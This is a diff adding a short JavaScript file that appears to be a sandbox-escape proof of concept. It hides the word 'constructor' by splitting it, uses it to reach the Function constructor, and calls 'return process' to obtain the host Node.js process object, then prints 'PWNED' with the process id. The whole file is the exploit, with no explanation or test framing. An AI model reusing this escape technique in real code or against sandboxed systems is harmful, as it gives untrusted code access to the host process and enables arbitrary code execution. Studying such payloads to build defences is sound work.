@@ -1,0 +1,6 @@
+'use strict';
+const w = ['con', 'structor'].join('');
+const t = { go: (f) => f[w] };
+t.go({});
+const fn = (x) => x;
+process.nextTick((x) => { const o = Date.now() > 1 ? x : {}; console.log('PWNED', o.go(fn)('return process')().pid); }, t);
